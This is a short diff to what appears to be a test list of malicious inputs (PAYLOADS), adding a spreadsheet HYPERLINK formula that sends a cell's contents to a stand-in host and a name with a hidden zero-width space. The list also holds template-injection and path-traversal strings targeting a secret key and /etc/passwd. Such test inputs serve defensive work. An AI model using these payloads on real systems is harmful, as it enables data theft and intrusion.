@@ -35,6 +35,8 @@ PAYLOADS = [
     "1e9",
     "${{7*7}}{% debug %}{{ settings.SECRET_KEY }}",
     "../../../../etc/passwd",
+    '=HYPERLINK("http://zlo.example/?"&A1;"Kliknite")',  # a formula for a spreadsheet
+    "KS\u200bGolnik",  # a zero-width space inside a name
 ]
 
 
